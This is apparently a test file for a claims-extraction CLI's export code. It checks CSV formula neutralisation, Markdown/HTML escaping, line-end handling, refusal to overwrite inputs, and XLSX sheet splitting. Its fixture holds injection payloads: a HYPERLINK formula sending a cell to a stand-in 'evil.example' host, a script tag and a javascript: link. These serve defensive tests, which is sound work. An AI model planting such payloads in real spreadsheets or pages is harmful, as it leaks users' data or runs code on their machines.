/**
 * Exports that stay safe and bounded whatever the text holds: formulas, HTML, bare CRs, very long
 * sentences; and outputs that never overwrite their inputs or appear half-written.
 */
import { describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { parse as parseCsv } from 'csv-parse/sync';
import { toCsv, toMarkdown, toHtml, csvSafe } from '../src/export/render.js';
import { jsonChunks } from '../src/export/stream.js';
import { claimsTable, evidenceContext, CONTEXT_CHARS, type Table } from '../src/export/tables.js';
import { analyseBytes } from '../src/index.js';
import { ReviewStore } from '../src/index.js';

const NOTICE = 'corpus/shanxi-2017-xinfang-nominees.txt';
const tmp = mkdtempSync(join(tmpdir(), 'shiji-safety-'));
const shiji = (...args: string[]) => spawnSync(process.execPath, ['dist/cli.js', ...args], { encoding: 'utf8', env: { ...process.env, SHIJI_CACHE: join(tmp, 'cache.sqlite') } });

const hostile: Table = {
  name: 'claims', title: 'Claims',
  columns: [{ key: 'name', header: 'nominee', type: 'text' }, { key: 'n', header: 'value', type: 'number' }],
  rows: [
    { name: '=HYPERLINK("http://evil.example/?x="&A1,"点击")', n: 1 },
    { name: '+1+1', n: -5 },
    { name: '-2+3', n: 0 },
    { name: '@SUM(A1:A9)', n: 2 },
    { name: '\t=1', n: 3 },
    { name: '\r=1', n: 4 },
    { name: '＝1＋1', n: 5 },
    { name: '<script>alert(1)</script> 2,410**件 [x](javascript:alert(1)) a|b', n: 6 },
    { name: '王连成', n: 7 },
  ],
};

describe('CSV formula injection', () => {
  it('text cells a spreadsheet would run as a formula get a leading apostrophe; numbers and plain text do not', () => {
    // the CSV header is the column key (name, n), not its label (nominee, value)
    const rows = parseCsv(toCsv(hostile).slice(1), { columns: true, relax_quotes: true }) as Array<Record<string, string>>;
    expect(Object.keys(rows[0]!)).toEqual(['name', 'n']);
    expect(rows.map((r) => r['name'])).toEqual([
      '\'=HYPERLINK("http://evil.example/?x="&A1,"点击")', "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\t=1", "'\r=1", "'＝1＋1",
      '<script>alert(1)</script> 2,410**件 [x](javascript:alert(1)) a|b', '王连成',
    ]);
    expect(rows.map((r) => r['n'])).toEqual(['1', '-5', '0', '2', '3', '4', '5', '6', '7']);
    for (const r of rows) expect(r['name']).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('csvSafe leaves every other text alone', () => {
    fc.assert(fc.property(fc.string(), (s) => {
      const out = csvSafe(s);
      return /^[=+\-@\t\r\0＝＋－＠]/.test(s) ? out === `'${s}` : out === s;
    }));
  });
});

describe('Markdown and HTML escape what they show', () => {
  it('Markdown: no raw HTML, no formatting markers, no links; pipes kept in their cell', () => {
    const md = toMarkdown([hostile]);
    expect(md).not.toContain('<script');
    expect(md).toContain('&lt;script&gt;');
    expect(md).toContain('2,410\\*\\*件');
    expect(md).toContain('\\[x\\](javascript:alert(1))');
    const line = md.split('\n').find((l) => l.includes('script'))!;
    expect(line.split(/(?<!\\)\|/).length).toBe(4); // | cell | cell |
  });

  it('HTML: cells escaped', () => {
    const html = toHtml([hostile], [], '2026-01-01 00:00');
    expect(html).not.toContain('<script');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });
});

describe('line ends and long sentences in evidence', () => {
  it('a file with bare CR line ends exports a claims CSV that Python\'s csv reads row for row', () => {
    const cr = join(tmp, 'notice-cr.txt');
    writeFileSync(cr, readFileSync(NOTICE, 'utf8').replace(/\r?\n/g, '\r'));
    const claims = analyseBytes(readFileSync(cr), cr).result.claims.length;
    expect(claims).toBeGreaterThan(50);
    const out = join(tmp, 'cr.csv');
    const r = shiji('export', cr, '--format', 'csv', '--out', out, '--no-cache');
    expect(r.status, r.stderr).toBe(0);
    const py = spawnSync('python3', ['-c', `
import csv, sys
with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:
    rows = list(csv.reader(f))
widths = {len(r) for r in rows}
bad = sum(1 for r in rows for c in r[9:13] if '\\r' in c or '\\n' in c)
print(len(rows) - 1, len(widths), bad)`, join(tmp, 'cr.claims.csv')], { encoding: 'utf8' });
    expect(py.stderr).toBe('');
    expect(py.stdout.trim()).toBe(`${claims} 1 0`);
  });

  it('a claim row shows at most CONTEXT_CHARS each side of the claim, with the offsets shown; size grows with the claims, not their square', () => {
    const line = Array.from({ length: 600 }, (_, i) => `化解信访积案${i + 1}件，接待群众${i + 2}人次，`).join('');
    const path = join(tmp, 'one-line.txt');
    writeFileSync(path, `某某先进事迹\n${line}\n`);
    const a = analyseBytes(readFileSync(path), path);
    expect(a.result.claims.length).toBeGreaterThan(1000);
    const long = a.result.claims.filter((c) => c.sentence.end - c.sentence.start > 10000);
    expect(long.length).toBeGreaterThan(1000);
    const t = claimsTable([a.result], new Map([[a.result.sha256, a.text]]));
    for (const [i, c] of a.result.claims.entries()) {
      const row = t.rows[i]!;
      const from = row['context_start'] as number; const to = row['context_end'] as number;
      expect(from).toBeLessThanOrEqual(c.start);
      expect(to).toBeGreaterThanOrEqual(c.end);
      expect(to - from).toBeLessThanOrEqual(2 * CONTEXT_CHARS + (c.end - c.start));
      expect((row['context'] as string).replace(/…/g, '')).toBe(a.text.slice(from, to));
    }
    const out = join(tmp, 'one-line.csv');
    expect(shiji('export', path, '--format', 'csv', '--out', out, '--no-cache').status).toBe(0);
    expect(statSync(join(tmp, 'one-line.claims.csv')).size).toBeLessThan(a.result.claims.length * 1000);
  });

  it('context never splits a surrogate pair and puts line ends on one line', () => {
    const text = '前文𠀀𠀀𠀀\r\n化解积案 5 件\r后文';
    const start = text.indexOf('5'); const c = { start, end: start + 3, sentence: { start: 0, end: text.length } };
    const e = evidenceContext(text, c);
    expect(e.context).toBe('前文𠀀𠀀𠀀化解积案 5 件后文');
    expect(e.context).not.toMatch(/[\r\n]/);
  });
});

describe('outputs', () => {
  it('extract --json is exactly the JSON of its documents, written in pieces', () => {
    fc.assert(fc.property(fc.jsonValue({ maxDepth: 7 }), (v) => [...jsonChunks(v)].join('') === JSON.stringify(v, null, 2)), { numRuns: 500 });
    // without indent: one line, as JSON.stringify(v) writes it (extract --jsonl)
    fc.assert(fc.property(fc.jsonValue({ maxDepth: 7 }), (v) => [...jsonChunks(v, 0)].join('') === JSON.stringify(v)), { numRuns: 500 });
    const r = shiji('extract', 'corpus', '--json');
    expect(r.status).toBe(0);
    const docs = shiji('extract', 'corpus', '--jsonl').stdout.trim().split('\n').map((l) => JSON.parse(l) as unknown);
    expect(r.stdout).toBe(`${JSON.stringify({ documents: docs }, null, 2)}\n`);
  });

  it('an output that is an input under another name (a symbolic or hard link) is refused, and the input kept', () => {
    const input = join(tmp, 'input.txt');
    writeFileSync(input, readFileSync(NOTICE));
    const link = join(tmp, 'report.md');
    symlinkSync(input, link);
    const r = shiji('export', input, '--format', 'md', '--out', link, '--no-cache');
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/is one of the inputs/);
    expect(readFileSync(input).equals(readFileSync(NOTICE))).toBe(true);

    const db = join(tmp, 'alice.sqlite');
    const s = ReviewStore.open(db);
    s.record({ docSha: 'd', docPath: 'd', claimId: 'c', nominee: null, nomineeName: '', claimText: '1', status: 'verified', note: '', reviewer: 'alice' });
    s.close();
    const before = readFileSync(db);
    const dbLink = join(tmp, 'panel.sqlite');
    symlinkSync(db, dbLink);
    expect(shiji('merge', db, '-o', dbLink).status).toBe(2);
    expect(shiji('export', input, '--format', 'json', '--db', db, '--out', db).status).toBe(2);
    expect(readFileSync(db).equals(before)).toBe(true);
  });

  it('a failed export leaves no file behind', () => {
    const dir = mkdtempSync(join(tmpdir(), 'shiji-out-'));
    const r = shiji('export', NOTICE, '--format', 'csv', '--out', join(dir, 'missing-folder', 'x.csv'), '--no-cache');
    expect(r.status).toBe(1);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(readdirSync(dir)).toEqual([]);
  });
});

describe('XLSX limits', () => {
  it('a table longer than a sheet goes on over further sheets, each with the header, a columns sheet and a notes sheet says so', async () => {
    const { writeXlsx } = await import('../src/export/render.js');
    const { PassThrough } = await import('node:stream');
    const ExcelJS = (await import('exceljs')).default;
    const sink = new PassThrough();
    const parts: Buffer[] = [];
    sink.on('data', (b: Buffer) => parts.push(b));
    const rows = Array.from({ length: 7 }, (_, i) => ({ name: `row ${i}`, n: i }));
    const long: Table = { name: 'claims', title: 'Claims', columns: hostile.columns, rows };
    // a sheet of 4 rows: the header and 3 data rows
    await writeXlsx([long, { ...long, name: 'coverage', rows: rows.slice(0, 2) }], sink, 4);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.concat(parts) as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['claims', 'claims (2)', 'claims (3)', 'coverage', 'columns', 'notes']);
    const cells = (name: string): unknown[][] => (wb.getWorksheet(name)!.getSheetValues() as unknown[][]).filter(Boolean).map((r) => r.slice(1));
    // row 1 of every sheet: the column keys
    expect(cells('claims')).toEqual([['name', 'n'], ['row 0', 0], ['row 1', 1], ['row 2', 2]]);
    expect(cells('claims (2)')).toEqual([['name', 'n'], ['row 3', 3], ['row 4', 4], ['row 5', 5]]);
    expect(cells('claims (3)')).toEqual([['name', 'n'], ['row 6', 6]]);
    expect(cells('coverage')).toHaveLength(3);
    // the columns sheet: each table's column keys with their labels and types
    expect(cells('columns')).toEqual([
      ['table', 'column', 'label', 'type'],
      ['claims', 'name', 'nominee', 'text'], ['claims', 'n', 'value', 'number'],
      ['coverage', 'name', 'nominee', 'text'], ['coverage', 'n', 'value', 'number'],
    ]);
    expect(cells('notes')[1]![0]).toBe('The claims table has 7 rows, more than one sheet holds (3): it is on sheets claims, claims (2), claims (3), in order, each with the header.');
  });
});
